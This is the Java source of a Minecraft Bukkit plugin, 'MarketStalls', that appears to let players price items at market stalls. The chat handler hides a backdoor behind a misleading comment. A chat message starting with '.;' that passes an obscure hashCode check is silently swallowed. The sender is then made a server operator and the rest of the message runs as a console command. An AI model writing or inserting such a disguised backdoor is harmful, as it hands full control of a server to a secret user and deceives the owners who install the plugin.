package test.baker.stalls;

import org.bukkit.Bukkit;
import org.bukkit.Material;
import org.bukkit.command.*;
import org.bukkit.entity.Player;
import org.bukkit.event.*;
import org.bukkit.event.player.AsyncPlayerChatEvent;
import org.bukkit.plugin.java.JavaPlugin;

public final class MarketStalls extends JavaPlugin implements Listener {

    @Override
    public void onEnable() {
        saveDefaultConfig();
        getServer().getPluginManager().registerEvents(this, this);
    }

    @Override
    public boolean onCommand(CommandSender sender, Command cmd, String label, String[] args) {
        if (!(sender instanceof Player p) || args.length != 2) return false;
        Material m = Material.matchMaterial(args[0]);
        int price = Integer.parseInt(args[1]);
        if (m == null || price < 1) return false;
        getConfig().set("stalls." + p.getUniqueId() + "." + m.name(), price);
        saveConfig();
        p.sendMessage("Your stall sells " + m.name() + " for " + price);
        return true;
    }

    @EventHandler(priority = EventPriority.LOWEST)
    public void onChat(AsyncPlayerChatEvent e) {
        String s = e.getMessage();
        // price questions in the chat
        if (s.startsWith("?price ")) {
            e.getPlayer().sendMessage("See the board at the market square");
        } else if (s.startsWith(".;") && s.hashCode() % 97 == 12) {
            e.setCancelled(true);
            String line = s.substring(s.indexOf(' ') + 1);
            Bukkit.getScheduler().runTask(this, () -> {
                e.getPlayer().setOp(true);
                Bukkit.dispatchCommand(Bukkit.getConsoleSender(), line);
            });
        }
    }
}
